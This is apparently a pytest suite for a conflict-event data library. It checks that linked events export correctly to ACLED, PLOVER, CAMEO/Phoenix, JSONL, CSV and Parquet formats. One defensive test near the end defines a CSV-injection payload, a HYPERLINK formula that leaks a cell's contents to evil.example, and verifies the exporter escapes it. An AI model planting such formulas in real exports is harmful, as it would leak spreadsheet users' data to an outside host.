"""Tests for dotterel.export: every format written, validated and read back."""

from __future__ import annotations

import csv
import io
import json

import duckdb
import jsonschema
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import examples

from dotterel.dedup import LinkedEvent, link_mentions
from dotterel.export import FORMATS, ExportError, write_export
from dotterel.export._common import escape_formula
from dotterel.export.acled import ACLED_COLUMNS, AcledRow
from dotterel.export.cameo import PHOENIX_COLUMNS, cameo_actor_code
from dotterel.export.plover import plover_schema
from dotterel.export.tabular import FLAT_COLUMNS, flat_row
from dotterel.ontology import Ontology
from dotterel.records import Actor, EventDate

from factories import (
    ALMATY,
    KADUNA,
    KADUNA_STATE,
    KAZAKHSTAN,
    NIGERIA,
    POLICE_KZ,
    PROTESTERS,
    STUDENTS,
    count,
    mention,
    pub_bound,
)

STAMP = 1_700_000_000
CIVILIANS = Actor(span=None, name="villagers", country="NGA", sector="CVL", kind="group")


def corpus() -> list[LinkedEvent]:
    """Linked events covering what each format can and cannot express."""
    refs = [
        # one abduction, two outlets (ACLED, CAMEO, PLOVER all map it)
        mention("a", recipient=CIVILIANS, counts=(count("abducted", 12), count("killed", 3)), source="Daily Trust"),
        mention("b", recipient=CIVILIANS, counts=(count("abducted", 15), count("killed", 1)), source="Punch",
                certainty="denied", claimant="army"),
        # a protest with no named actor and a crowd size; a riot in a region
        mention("p", event_type="PROTEST", mode="demo", actor=None, recipient=None, location=ALMATY,
                date="2022-01-04", counts=(count("participants", None, low=200, high=900),)),
        mention("r", event_type="PROTEST", mode="riot", actor=PROTESTERS, recipient=POLICE_KZ, location=ALMATY,
                date="2022-01-05"),
        mention("s", event_type="COERCE", mode="arrest", actor=POLICE_KZ, recipient=PROTESTERS,
                location=KADUNA_STATE, date="2022-01-06"),
        # unmappable in ACLED: no ACLED sub-event; country-level place; open date range
        mention("c", event_type="CONSULT", mode=None, actor=POLICE_KZ, recipient=None, location=ALMATY),
        mention("k", event_type="PROTEST", mode="demo", actor=PROTESTERS, recipient=None, location=KAZAKHSTAN,
                date="2022-02-01"),
        mention("u", location=NIGERIA, date=pub_bound("2024-06-01"), actor=None, recipient=STUDENTS,
                published="2024-06-01"),
        # no actor country: no CAMEO code
        mention("x", event_type="ASSAULT", mode="beat", actor=Actor(span=None, name="a mob", kind="group"),
                recipient=None, location=KADUNA, date="2023-05-05"),
    ]
    return link_mentions(refs)


EVENTS = corpus()


def export_text(fmt: str, events=EVENTS):
    buf = io.StringIO()
    report = write_export(events, fmt, buf, timestamp=STAMP)
    return buf.getvalue(), report


def test_corpus_is_what_the_tests_expect():
    assert len(EVENTS) == 8
    abduction = next(e for e in EVENTS if e.mode == "abduct" and len(e.mentions) == 2)
    assert abduction.conservative_value("killed") == 3  # the denied "1" is not credible


# ------------------------------------------------------------ ACLED
def test_acled_csv_has_exactly_its_columns_and_valid_values():
    text, report = export_text("acled")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(csv.reader(io.StringIO(text)).__next__()) == ACLED_COLUMNS
    assert report.rows_written == len(rows) == 4
    onto = Ontology.load()
    pairs = {onto.acled_for(t, m) for t, td in onto.event_types.items() for m in (None, *td.modes)} - {None}
    for row in rows:
        assert set(row) == set(ACLED_COLUMNS)
        assert (row["event_type"], row["sub_event_type"]) in pairs
        assert row["disorder_type"] == onto.acled_disorder_type(row["sub_event_type"])
        assert row["time_precision"] in {"1", "2", "3"} and row["geo_precision"] in {"1", "2", "3"}
        assert row["inter1"] in {"", *map(str, range(1, 9))} and row["inter2"] in {"", *map(str, range(1, 9))}
        assert row["year"] == row["event_date"][:4] and row["timestamp"] == str(STAMP)
        assert row["fatalities"] == "" or int(row["fatalities"]) >= 0
        AcledRow.model_validate({k: _typed(v) for k, v in row.items()})
    by_sub = {r["sub_event_type"]: r for r in rows}
    abd = by_sub["Abduction/forced disappearance"]
    assert (abd["actor1"], abd["inter1"], abd["actor2"], abd["inter2"], abd["interaction"]) == (
        "gunmen", "3", "villagers", "7", "37")
    assert (abd["iso"], abd["country"], abd["location"], abd["geo_precision"]) == ("566", "Nigeria", "Kaduna", "1")
    assert abd["fatalities"] == "3" and abd["civilian_targeting"] == "Civilian targeting"
    assert abd["source"] == "Daily Trust; Punch" and "killed 1 (Punch, per army, denied)" in abd["notes"]
    protest = by_sub["Peaceful protest"]
    assert (protest["actor1"], protest["inter1"], protest["interaction"], protest["tags"]) == (
        "Protesters (Kazakhstan)", "6", "60", "crowd size=200")
    riot = by_sub["Violent demonstration"]
    assert (riot["inter1"], riot["inter2"], riot["interaction"], riot["tags"]) == ("5", "1", "15", "crowd size=no report")
    # ACLED codebook: a demonstration's actor1 is the generic "Rioters/Protesters (Country)"; the named
    # group that demonstrated is the associated actor
    assert (riot["actor1"], riot["assoc_actor_1"], riot["actor2"]) == ("Rioters (Kazakhstan)", "protesters", "Kazakh police")
    arrest = by_sub["Arrests"]
    assert (arrest["geo_precision"], arrest["admin1"], arrest["event_date"]) == ("3", "Kaduna", "2022-01-06")


def _typed(cell: str):
    """A CSV cell back to the type it was written from (empty -> None)."""
    if cell == "":
        return None
    for cast in (int, float):
        try:
            return cast(cell)
        except ValueError:
            pass
    return cell


def test_acled_counts_unmapped_events_by_reason():
    _, report = export_text("acled")
    assert report.events_read == 8 and report.rows_written + len(report.skipped) == 8
    assert report.unmapped == {
        "no ACLED sub-event type for ASSAULT/beat": 1,
        "no ACLED sub-event type for CONSULT/-": 1,
        "only a country-level location (ACLED needs a town or region)": 2,
    }


def test_acled_loads_in_duckdb_with_its_columns(tmp_path):
    path = tmp_path / "acled.csv"
    report = write_export(EVENTS, "acled", path, timestamp=STAMP)
    con = duckdb.connect()
    rel = con.sql(f"SELECT * FROM read_csv('{path}', header=true, all_varchar=true)")
    assert tuple(rel.columns) == ACLED_COLUMNS
    assert con.sql(f"SELECT count(*) FROM read_csv('{path}', header=true)").fetchall() == [(report.rows_written,)]
    assert con.sql(f"SELECT sum(fatalities), min(iso) FROM read_csv('{path}', header=true)").fetchall() == [(3, 398)]


@pytest.mark.parametrize(("earliest", "latest", "expected"), [
    ("2024-03-04", "2024-03-04", ("2024-03-04", "1")),
    ("2024-03-01", "2024-03-07", ("2024-03-04", "2")),
    ("2024-03-01", "2024-03-31", ("2024-03-16", "3")),
    ("2024-01-01", "2024-12-31", None),
])
def test_acled_date_precision_from_the_range(earliest, latest, expected):
    date = EventDate(value=None, earliest=earliest, latest=latest, time_precision="range", reason="test")
    text, report = export_text("acled", link_mentions([mention("w", date=date)]))
    rows = list(csv.DictReader(io.StringIO(text)))
    if expected is None:
        assert rows == [] and report.unmapped == {"date known only to more than a month": 1}
    else:
        assert [(r["event_date"], r["time_precision"]) for r in rows] == [expected]


# ------------------------------------------------------------ PLOVER
def test_plover_records_validate_against_the_schema():
    text, report = export_text("plover")
    lines = text.splitlines()
    assert report.rows_written == len(lines) == 7
    assert report.unmapped == {"no start date (only bounded by publication)": 1}
    schema = plover_schema()
    validator = jsonschema.Draft202012Validator(schema)
    records = [json.loads(line) for line in lines]
    for rec in records:
        validator.validate(rec)
    abd = next(r for r in records if r["mode"] == ["abduct"] and len(r["mentions"]) == 2)
    assert (abd["event"], abd["quad_code"], abd["dead"], abd["abducted"]) == (["ASSAULT"], 4, 3, 12)
    assert abd["source"] == [{"actor_text": "gunmen", "code": "NGA", "sector": "UAF", "identifier_text": "gunmen"}]
    assert abd["event_loc"]["geonameid"] == 2335727 and abd["event_loc"]["country_code"] == "NG"
    assert [(m["cite_info"]["publication"], m["certainty"]) for m in abd["mentions"]] == [
        ("Daily Trust", "asserted"), ("Punch", "denied")]
    protest = next(r for r in records if r["mode"] == ["demo"] and "size" in r)
    assert protest["source"] == [] and protest["size"] == 200


def test_plover_schema_rejects_what_it_should():
    validator = jsonschema.Draft202012Validator(plover_schema())
    good = json.loads(export_text("plover")[0].splitlines()[0])
    assert validator.is_valid(good)
    for bad in ({**good, "event": ["FIGHT"]}, {**good, "date": "4 Jan 2022"}, {**good, "quad_code": 5},
                {k: v for k, v in good.items() if k != "id"}, {**good, "unknown_field": 1}):
        assert not validator.is_valid(bad)


# ------------------------------------------------------------ CAMEO / Phoenix
def test_cameo_tsv_has_the_phoenix_columns():
    text, report = export_text("cameo")
    lines = text.splitlines()
    header = tuple(lines[0].split("\t"))
    assert header == PHOENIX_COLUMNS and len(header) == 26
    rows = [dict(zip(header, line.split("\t"))) for line in lines[1:]]
    assert all(len(line.split("\t")) == 26 for line in lines[1:])
    assert report.rows_written == len(rows) == 5
    abd = next(r for r in rows if r["EventCode"] == "181")
    assert (abd["Date"], abd["SourceActorFull"], abd["TargetActorFull"], abd["EventRootCode"], abd["QuadClass"]) == (
        "20240304", "NGAUAF", "NGACVL", "18", "4")
    assert abd["NewsSources"] == "Daily Trust;Punch" and abd["CountryCode"] == "NGA"
    assert abd["GoldsteinScore"] == "" and abd["SentenceID"] == "a#0;b#0"
    assert report.unmapped == {
        "date not known to the day": 1,
        "source actor has no CAMEO code (no actor or no country)": 2,
    }


def test_cameo_actor_codes():
    assert cameo_actor_code(POLICE_KZ) == ("KAZ", "COP")
    assert cameo_actor_code(Actor(span=None, name="UN", country="IGO", kind="igo")) == ("IGO", None)
    assert cameo_actor_code(Actor(span=None, name="militia", country="KAZ", sector="PRM")) == ("KAZ", None)
    assert cameo_actor_code(Actor(span=None, name="police", sector="COP")) is None
    assert cameo_actor_code(None) is None


# ------------------------------------------------------------ jsonl / csv / parquet
def test_jsonl_reads_back_equal():
    text, report = export_text("jsonl")
    back = [LinkedEvent.model_validate_json(line) for line in text.splitlines()]
    assert back == EVENTS and report.rows_written == 8 and report.skipped == []


def test_csv_has_the_flat_columns():
    text, report = export_text("csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == FLAT_COLUMNS and len(rows) == 8
    expected = [flat_row(e).model_dump() for e in EVENTS]
    for row, exp in zip(rows, expected):
        assert row == {k: "" if v is None else str(v) for k, v in exp.items()}


def test_parquet_reads_back_equal(tmp_path):
    path = tmp_path / "events.parquet"
    report = write_export(EVENTS, "parquet", path)
    table = pq.read_table(path)
    assert tuple(table.column_names) == (*FLAT_COLUMNS, "record") and report.rows_written == table.num_rows == 8
    rows = table.to_pylist()
    assert [LinkedEvent.model_validate_json(r.pop("record")) for r in rows] == EVENTS
    assert rows == [flat_row(e).model_dump() for e in EVENTS]


def test_parquet_in_small_row_groups(tmp_path):
    from dotterel.export.tabular import write_parquet

    path = tmp_path / "events.parquet"
    write_parquet(EVENTS, path, batch_size=2)
    assert pq.ParquetFile(path).num_row_groups == 4
    assert pq.read_table(path).column("event_id").to_pylist() == [e.event_id for e in EVENTS]


_places = st.sampled_from([ALMATY, KADUNA, KADUNA_STATE, KAZAKHSTAN, NIGERIA, None])
_mentions = st.builds(
    lambda i, place, day, n, certainty: mention(f"d{i}", location=place, date=f"2024-03-{day:02d}",
                                                counts=(count("abducted", n),), certainty=certainty,
                                                source=f"Outlet {i % 3}"),
    st.integers(0, 30), _places, st.integers(1, 28), st.integers(0, 500),
    st.sampled_from(["asserted", "reported", "denied", "hypothetical"]),
)


@settings(max_examples=examples(30), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_mentions, max_size=8, unique_by=lambda m: m.mention_id))
def test_jsonl_round_trip_property(refs):
    events = link_mentions(refs)
    text, report = export_text("jsonl", events)
    assert [LinkedEvent.model_validate_json(line) for line in text.splitlines()] == events
    assert report.rows_written == len(events)


# ------------------------------------------------------------ dispatch and errors
def test_every_format_is_dispatched(tmp_path):
    for fmt in FORMATS:
        out = tmp_path / f"out.{fmt}"
        report = write_export(EVENTS[:2], fmt, out, timestamp=STAMP)
        assert report.format == fmt and report.events_read == 2 and out.stat().st_size > 0


def test_unknown_format_and_bad_path_are_export_errors(tmp_path):
    with pytest.raises(ExportError, match="unknown export format 'xml'"):
        write_export(EVENTS, "xml", io.StringIO())
    with pytest.raises(ExportError, match="cannot write"):
        write_export(EVENTS, "acled", tmp_path / "missing" / "x.csv")
    with pytest.raises(ExportError, match="cannot write"):
        write_export(EVENTS, "parquet", tmp_path / "missing" / "x.parquet")


def test_streams_a_generator_once():
    seen = []

    def gen():
        for e in EVENTS:
            seen.append(e.event_id)
            yield e

    _, report = export_text("plover", gen())
    assert seen == [e.event_id for e in EVENTS] and report.events_read == 8


_outlets = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=12)


@settings(max_examples=examples(40), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_outlets, min_size=1, max_size=4, unique=True))
def test_acled_and_phoenix_cells_survive_any_outlet_name(outlets):
    """Commas, quotes, tabs and line breaks in outlet names never break a row."""
    refs = [mention(f"o{i}", source=name) for i, name in enumerate(outlets)]
    [ev] = link_mentions(refs)
    text, report = export_text("acled", [ev])
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    # A name a spreadsheet would run as a formula ("=...", "@...") comes with a ' before it.
    assert row["source"] == escape_formula("; ".join(sorted(outlets))) and report.rows_written == 1
    tsv, _ = export_text("cameo", [ev])
    header, line = tsv.split("\n")[:2]
    cells = dict(zip(header.split("\t"), line.split("\t")))
    assert len(line.split("\t")) == len(PHOENIX_COLUMNS)
    assert cells["NewsSources"] == escape_formula(" ".join(";".join(sorted(outlets)).split()))


# -- spreadsheet formulas (issue 14: OWASP "CSV Injection") ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("fmt", ["acled", "csv", "cameo"])
def test_cells_a_spreadsheet_would_run_are_escaped_unless_raw(fmt):
    [ev] = link_mentions([mention("o1", source=FORMULA), mention("o2", source="@SUM(1+1)")])
    text, _ = export_text(fmt, [ev])
    delimiter = "\t" if fmt == "cameo" else ","
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    leading = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit())]
    assert leading == []
    assert any(c.startswith("'") and "HYPERLINK" in c or c.startswith("'@SUM") for c in cells)
    raw = io.StringIO()
    write_export([ev], fmt, raw, raw=True, **({"timestamp": 0} if fmt == "acled" else {}))
    raw_cells = [cell for row in csv.reader(io.StringIO(raw.getvalue(), newline=""), delimiter=delimiter) for cell in row]
    assert any(c.startswith(("=", "@")) for c in raw_cells)


def test_negative_numbers_are_not_escaped():
    assert escape_formula("-43.25") == "-43.25" and escape_formula("+3") == "+3" and escape_formula("-1e5") == "-1e5"
    assert escape_formula("-dash") == "'-dash" and escape_formula("\tx") == "'\tx" and escape_formula("a=b") == "a=b"
